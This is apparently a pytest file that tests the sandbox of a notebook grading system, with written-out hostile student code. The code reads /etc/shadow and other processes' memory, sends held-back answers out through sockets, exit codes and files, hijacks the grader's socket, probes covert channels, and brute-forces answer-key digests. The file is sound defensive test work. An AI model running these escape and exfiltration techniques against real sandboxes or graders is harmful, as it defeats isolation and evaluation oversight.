"""Attacks that read the reference, held-back recordings, other work or the mentor's files, or that pass them on.

Whatever a function does with its inputs, no data of them may get into any output, verdict, page or file, or reach
another notebook that is graded at the same time or later.
"""

from __future__ import annotations

import contextlib
import os
import pickle
import socket
import threading
from dataclasses import replace
from pathlib import Path

import classroom
import pytest
from classroom import RIGHT, ROOT, Class, Row

from watchkeeper.staff.grade import submission as unit
from watchkeeper.staff.grade.result import GRADED

ROOM = ROOT / "src" / "watchkeeper"
SECRETS = [
    ROOT / "course" / "course.toml",
    ROOT / "source" / "00-welcome" / "first-watch.ipynb",
    ROOT / "datasets" / "held-back",
    ROOM / "staff",
    ROOM / "staff" / "author" / "course.py",
    ROOM / "staff" / "grade" / "nbgrader" / "judge.py",
    ROOM / "staff" / "recorder" / "versions",
    ROOT / "gradebook.db",
    ROOT / "submitted",
    ROOT / ".git",
    ROOT / "SECURITY.md",
    *Path(__file__).parent.glob("*.py"),
    *map(
        Path,
        (
            "/etc/shadow",
            "/etc/hostname",
            "/root/.bashrc",
            "/home",
            "/proc/1/environ",
            "/proc/1/mem",
            "/proc/1/root",
            "/proc/1/fd/0",
            "/proc/1/cwd",
            "/run",
            "/sys/kernel",
            "/var/lib",
            "/dev/kmsg",
            "/dev/mem",
            "/tmp/.X11-unix",
        ),
    ),
]
READS = f"""
import os
got = []
for path in {[str(one) for one in SECRETS]!r}:
    try:
        got.append((path, os.listdir(path)) if os.path.isdir(path) else (path, len(open(path, "rb").read(10))))
    except OSError:
        pass
print("GOT", [one for one in got if one[1]])
"""
PROCESSES = """
import ctypes, os
libc, got = ctypes.CDLL(None, use_errno=True), []
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) == os.getpid():
        continue
    for part in ("environ", "mem", "fd", "maps", "root", "cwd", "task"):
        try:
            path = f"/proc/{name}/{part}"
            got.append((name, part, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(100)))
        except OSError:
            pass
    if libc.ptrace(16, int(name), 0, 0) == 0:
        got.append("ptrace")
    buffer = ctypes.create_string_buffer(64)
    if libc.process_vm_readv(int(name), buffer, 1, buffer, 1, 0) > 0:
        got.append("read its memory")
print("GOT", [one for one in got if one[1] not in ("task", "environ")], len(os.listdir("/proc/1/task")))
print("SEEN", sorted(open(f"/proc/{name}/comm").read().strip() for name in os.listdir("/proc") if name.isdigit()))
"""
ENVIRONMENT = """
import os, sys
print("ENVIRONMENT", sorted(name for name in os.environ if "HELD" in name or "SECRET" in name or "SSH" in name))
print("ORIGINAL", [one for one in open("/proc/self/environ").read().split("\\0") if "SECRET" in one or "HELD" in one])
print("ARGUMENTS", "held" in open("/proc/self/cmdline").read())
print("FILES", sorted(os.readlink(f"/proc/self/fd/{name}").split(":")[0] for name in os.listdir("/proc/self/fd")
                      if os.path.lexists(f"/proc/self/fd/{name}")))
"""


def calls(addresses) -> str:
    return f"""
import socket
got = []
for family, kind, address in {addresses!r}:
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(0.3)
            one.connect(address)
            one.send(b"survivor")
            got.append(address)
    except OSError:
        pass
try:
    got.append(socket.getaddrinfo("example.org", 443))
except OSError:
    pass
print("REACHED", got)
"""


# Ways in which a function may try to pass on data of the held-back recording `spans`.
TELLS = {
    "in the text of an error": "raise ValueError(str(list(spans.trace_id)))",
    "in the name of an error's class": "raise type('A' + spans.trace_id.iloc[0], (Exception,), {})('x')",
    "in an error named like a known one": "raise type('ValueError', (Exception,), {})(spans.trace_id.iloc[0])",
    "in an error that renders itself": (
        "error = type('E', (Exception,), {'_render_traceback_': lambda self: [spans.trace_id.iloc[0]],\n"
        "    '__str__': lambda self: spans.trace_id.iloc[0]})()\n    raise error"
    ),
    "in its answer": "return spans.trace_id.iloc[0]",
    "in an answer of another type": "return {'service': list(spans.trace_id)}",
    "in a huge answer": "return ' '.join(spans.trace_id) * 100",
    "by printing": "print(list(spans.trace_id)); return 'x'",
    "in a warning": "import warnings; warnings.warn(spans.trace_id.iloc[0]); return 'x'",
    "by displaying": (
        "from IPython.display import display, publish_display_data\n    display(spans)\n"
        "    publish_display_data({'text/plain': spans.trace_id.iloc[0]}); return 'x'"
    ),
    "by file descriptors 1 and 2": "import os; os.write(2, spans.trace_id.iloc[0].encode()); return 'x'",
    "by running a program": "import subprocess; subprocess.run(['echo', spans.trace_id.iloc[0]]); return 'x'",
    "in its docstring and name": "busiest.__doc__ = busiest.__name__ = spans.trace_id.iloc[0]; raise ValueError",
    "in a SystemExit": "raise SystemExit(spans.trace_id.iloc[0])",
    "in a KeyboardInterrupt": "raise KeyboardInterrupt(spans.trace_id.iloc[0])",
    "as the line number of an error": (
        "exec(compile('\\n' * int(spans.trace_id.iloc[0][:4], 16) + 'raise ValueError', '<ipykernel_1>', 'exec'))"
    ),
    "by patching the record of its answer": (
        "from watchkeeper.check.problem import Given\n    told = spans.trace_id.iloc[0]\n"
        "    Given.record = lambda given: {'input': told, 'problem': {'kind': 'raised', 'error': told}}\n"
        "    return 'x'"
    ),
    "by patching the frame itself": (
        "from watchkeeper.staff.sandbox import wire\n    send = wire.send\n"
        "    wire.send = lambda to, message: send(to, {'outputs': spans.trace_id.iloc[0]})\n"
        "    return 'x'"
    ),
    "on every socket it finds": (
        "import os, socket, struct\n"
        '    body = (\'{"cell": 0, "answer": {"question": "the-root", "results": [{"problem": "%s"}]}}\'\n'
        "            % spans.trace_id.iloc[0]).encode()\n"
        "    for name in os.listdir('/proc/self/fd'):\n"
        "        try:\n"
        "            if os.readlink(f'/proc/self/fd/{name}').startswith('socket:'):\n"
        "                socket.socket(fileno=os.dup(int(name))).send(struct.pack('!I', len(body)) + body)\n"
        "        except OSError: pass\n"
        "    return 'x'"
    ),
    "in files for later": (
        "import os\n"
        "    for place in ('/box/tmp', '/box/work', '/box/home', '/tmp', '/dev/shm', '/var/tmp'):\n"
        "        try: open(place + '/survivor', 'w').write(spans.trace_id.iloc[0])\n"
        "        except OSError: pass\n"
        "    return 'x'"
    ),
    "as an exit code": "import os; os._exit(int(spans.trace_id.iloc[0][:2], 16))",
}

WAITS = """
import os, socket, threading, time
def serve():
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            one = socket.socket(socket.AF_UNIX, kind)
            one.bind("\\0survivor")
            one.settimeout(1)
            if kind == socket.SOCK_STREAM:
                one.listen()
                one, _ = one.accept()
            print("HEARD", one.recv(100))
        except OSError:
            pass
    time.sleep(1)
    print("HEARD nothing")
serve()
print("SHARED", [one for one in open("/proc/sysvipc/shm")][1:], os.path.exists("/box/tmp/survivor"))
"""
SPEAKS = """
import socket, time
for _ in range(20):
    for kind, address in ((socket.SOCK_DGRAM, "\\0survivor"), (socket.SOCK_STREAM, "/box/tmp/survivor")):
        try:
            one = socket.socket(socket.AF_UNIX, kind)
            one.connect(address)
            one.send(b"the answer")
            print("SPOKE")
        except OSError:
            pass
    time.sleep(0.1)
open("/box/tmp/survivor", "w").write("the answer")
"""
KEEPS = """
# The notebook's own process replaces the snapshot: it keeps the question's socket and waits for the inputs.
import array, os, pickle, socket, threading
from watchkeeper.check import handout
def take(one):
    one.setblocking(True)
    data, files, _, _ = socket.recv_fds(one, 1, 4)
    text = open(files[0], "rb").read()
    for label, spans in pickle.loads(text):
        print("TOOK", list(spans.trace_id))
        from IPython.display import display
        display(spans)
        open("/box/tmp/survivor", "w").write(str(list(spans.trace_id)))
        for other in os.listdir("/proc/self/fd"):
            try: os.write(int(other), str(list(spans.trace_id)).encode())
            except OSError: pass
for name in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
            threading.Thread(target=take, args=(socket.socket(fileno=os.dup(int(name))),)).start()
    except OSError:
        pass
handout.results = lambda question, answer: [{"problem": {"kind": "later"}}]
"""
LONGER = """
import threading, time
def last():
    time.sleep(2)
    while True:
        print("LATE")
threading.Thread(target=last).start()
time.sleep(1)
"""


def telling(name: str, body: str) -> Row:
    answer = {"busiest-service-answer": f"def busiest(spans):\n    {body}"}
    return Row(f"a function passes on a held-back recording {name}", answers=RIGHT | answer, points=4.0)


# What one box could tell another one by, apart from a clock: the state of files that both can read, and of the devices.
INSTRUMENTS = """
import ctypes, errno, fcntl, mmap, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
file = os.open(sys.executable, os.O_RDONLY)
null = os.open("/dev/null", os.O_RDWR)
memory = mmap.mmap(file, 4096, prot=mmap.PROT_READ, flags=mmap.MAP_SHARED)
x86 = os.uname().machine == "x86_64"

def system(name, on_x86, on_arm, *arguments):
    result = libc.syscall(ctypes.c_long(on_x86 if x86 else on_arm), *[
        one if isinstance(one, bytes) else ctypes.c_long(one) for one in arguments])
    if result == -1:
        raise OSError(ctypes.get_errno(), name)

def another_sees(lock):
    # Locks a file that every box has, and fails unless another process can tell.
    lock(os.open("/dev/null", os.O_RDWR))
    child = os.fork()
    if child == 0:
        try:
            lock(os.open("/dev/null", os.O_RDWR))
            os._exit(0)
        except OSError:
            os._exit(1)
    if os.waitpid(child, 0)[1] == 0:
        raise OSError

buffer = ctypes.create_string_buffer(1 << 16)
address = ctypes.addressof(buffer)
vector = struct.pack("QQ", address, 1)
of_file = libc.mmap
of_file.restype, of_file.argtypes = ctypes.c_void_p, [ctypes.c_void_p] + [ctypes.c_long] * 5
mapped = of_file(None, 4096, 1, 1, file, 0)
whole = struct.pack("hhqqi", fcntl.F_WRLCK, 0, 0, 0, 0)
INSTRUMENTS = {
    "reads what is in the cache": lambda: os.preadv(file, [bytearray(1)], 0, os.RWF_NOWAIT),
    "the same, as a system call": lambda: system("preadv2", 327, 286, file, vector, 1, 0, 0, 8),
    "drops pages from the cache": lambda: os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED),
    "turns reading ahead off": lambda: os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM),
    "asks for pages": lambda: system("mincore", 27, 232, mapped, 4096, address),
    "asks for statistics of the cache": lambda: system("cachestat", 451, 451, file, vector, address, 0),
    "reads ahead": lambda: system("readahead", 187, 213, file, 0, 4096),
    "pages out": lambda: system("madvise", 28, 233, mapped, 4096, 21),
    "makes pages cold": lambda: system("madvise", 28, 233, mapped, 4096, 20),
    "shares equal pages": lambda: system("madvise", 28, 233, address & ~4095, 4096, 12),
    "pages out for another process": lambda: system("process_madvise", 440, 440, 0, vector, 1, 21, 0),
    "asks where pages are": lambda: system("move_pages", 279, 239, 0, 1, vector, 0, address, 0),
    "locks a file": lambda: another_sees(lambda one: fcntl.flock(one, fcntl.LOCK_EX | fcntl.LOCK_NB)),
    "locks a part": lambda: another_sees(lambda one: fcntl.lockf(one, fcntl.LOCK_EX | fcntl.LOCK_NB)),
    "locks an open file": lambda: another_sees(lambda one: fcntl.fcntl(one, 37, whole)),
    "asks for a lock": lambda: fcntl.fcntl(file, fcntl.F_GETLK, whole),
    "asks for an open file's lock": lambda: fcntl.fcntl(file, 36, whole),
    "leases": lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK),
    "watches a folder": lambda: fcntl.fcntl(os.open("/usr", os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_ACCESS),
    "leaves a hint": lambda: fcntl.fcntl(null, 1036, struct.pack("Q", 2)),
    "reads a hint": lambda: fcntl.fcntl(null, 1035, struct.pack("Q", 0)),
    "watches files": lambda: system("inotify_init1", 294, 26, 0),
    "watches a mount": lambda: system("fanotify_init", 300, 262, 0x200, 0),
    "shared memory": lambda: system("shmget", 29, 194, 77, 4096, 0o1666),
    "semaphores": lambda: system("semget", 64, 190, 77, 1, 0o1666),
    "messages": lambda: system("msgget", 68, 186, 77, 0o1666),
    "a queue of messages": lambda: system("mq_open", 240, 180, b"survivor", 0o102, 0o666, 0),
    "a key": lambda: system("add_key", 248, 217, b"user", b"survivor", b"x", 1, -4),
    "compares with another process": lambda: system("kcmp", 312, 272, os.getpid(), os.getpid(), 0, file, null),
}
works = []
for name, use in INSTRUMENTS.items():
    try:
        use()
        works.append(name)
    except (OSError, AttributeError):
        pass
print("WORKS", works)
"""
LISTENS, SPEAKS_UP = "it listens for other notebooks", "it sends data to other notebooks"
ROWS = [
    Row("it reads the mentor's files, the reference, held-back recordings and other work", READS, shows="GOT []"),
    Row("it reads other processes", PROCESSES, shows="SEEN ['cat', 'python"),
    Row(
        "it reads environment variables, arguments and open files",
        ENVIRONMENT,
        shows="ENVIRONMENT []\nORIGINAL []\nARGUMENTS False",
    ),
    *[telling(name, body) for name, body in TELLS.items()],
    Row("the notebook's own process takes the held-back inputs", KEEPS, at="busiest-service", stopped=None),
    Row("a thread prints after the notebook has ended", LONGER, at="last", answers=RIGHT, points=7.0),
    Row("it looks for traces that others have left on shared files", INSTRUMENTS, shows="WORKS []"),
    Row(LISTENS, WAITS, shows="HEARD nothing\nSHARED [] False"),
    Row(SPEAKS_UP, SPEAKS, answers=RIGHT, points=7.0),
    # Instant replies need digests, so answers can be tried until one fits. That does not work for a function, which is
    # also called on held-back recordings.
    Row(
        "it tries answers until a digest of the key fits",
        cells={
            "the-root-answer": """
from watchkeeper.check import _outcome, load
root = next(one for one in ("c3", "b2", "a1") if _outcome(load()["the-root"], one).word == "passed")
"""
        },
        points=1.0,
    ),
]


@pytest.mark.parametrize("row", ROWS, ids=lambda row: row.name)
def test_no_data_leaks(judge, row):
    result = judge(row)
    function = next(mark for mark in result.notebooks[0].marks if mark.name == "busiest-service")
    assert len(" ".join(function.lines)) < 300


def test_no_cell_of_a_submission_runs_after_one_of_its_functions(room):
    """A function of one notebook could tell a cell of the next one what it has seen."""
    did, lesson = [], room.edition.lessons[classroom.NOTEBOOK]

    class Watched(Class):
        def sealed(self, *given):
            sealed, number = room.runner.sealed(*given), len(did)
            did.append("cells")
            asked = sealed.asked

            def ask():
                did.append(f"functions of {number}")
                return asked()

            sealed.asked = ask
            return sealed

    names = [classroom.NOTEBOOK, "second", "third"]
    edition = replace(room.edition, lessons={name: replace(lesson, name=name) for name in names})
    several = Watched(edition, room.inputs, room.runner)
    submission = room.submission(Row("ada", answers=RIGHT))
    (content,) = submission.files.values()
    submission = replace(submission, files={f"{name}.ipynb": content for name in names})
    result = unit.grade_one(edition, submission, several, room.inputs)
    assert (result.state, result.points) == (GRADED, 21.0)
    assert did == ["cells"] * 3 + ["functions of 0", "functions of 1", "functions of 2"]


def test_a_leaked_id_would_be_found(secrets, room):
    """The other tests search everything that leaves the grader for these ids, so the search itself must work."""
    assert len(secrets) > 1000
    (pickled,) = room.edition.inputs.values()
    assert {label for label, _ in pickle.loads(pickled)}
    shown = Row("shown", f'root = "{next(iter(secrets))}"\nprint(root)')
    assert secrets & set(classroom.HEX.findall(classroom.everything(room.grade(room.submission(shown)))))


def test_no_socket_reaches_the_outside(room, tmp_path):
    heard: list[bytes] = []
    sockets = []
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
        (socket.AF_INET6, socket.SOCK_DGRAM, ("::1", 0)),
        (socket.AF_UNIX, socket.SOCK_DGRAM, str(tmp_path / "socket")),
        (socket.AF_UNIX, socket.SOCK_DGRAM, "\0watchkeeper-listens"),
    ):
        one = socket.socket(family, kind)
        one.bind(address)
        if kind == socket.SOCK_STREAM:
            one.listen()
        sockets.append(one)
    addresses = [(int(one.family), int(one.type), one.getsockname()) for one in sockets]
    addresses += [(2, 1, ("1.1.1.1", 53)), (2, 2, ("8.8.8.8", 53)), (1, 1, "/run/docker.sock"), (40, 1, (2, 1234))]
    addresses = [
        (family, kind, f"\0{name[1:].decode()}" if isinstance(name, bytes) else name)
        for family, kind, name in addresses
    ]
    row = Row("calls", calls(addresses))
    said = classroom.outputs(room.grade(room.submission(row)))
    assert "REACHED []" in said
    for one in sockets:
        one.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            heard.append(one.accept()[0].recv(1) if one.type == socket.SOCK_STREAM else one.recv(10))
        one.close()
    assert not heard


def test_two_notebooks_at_once_share_nothing(room):
    listener, speaker = (next(row for row in ROWS if row.name == name) for name in (LISTENS, SPEAKS_UP))
    results = {}
    threads = [
        threading.Thread(target=lambda row=row: results.update({row.name: room.grade(room.submission(row))}))
        for row in (listener, speaker)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert "HEARD nothing\nSHARED [] False" in classroom.outputs(results[listener.name])
    assert "SPOKE" not in classroom.outputs(results[speaker.name]).replace('print("SPOKE")', "")


def test_the_mentors_environment_is_not_in_the_box(room, monkeypatch):
    monkeypatch.setenv("SECRET_OF_THE_MENTOR", "x")
    with classroom.opened(room.edition) as runner:
        ran = runner.run(["import os; print(os.environ, open('/proc/self/environ').read())"], {})
    assert "SECRET" not in str(ran.outputs)
    assert os.environ["SECRET_OF_THE_MENTOR"] == "x"


def test_the_secret_files_of_the_package_exist() -> None:
    assert [path for path in SECRETS if path.is_relative_to(ROOM) and not path.exists()] == []
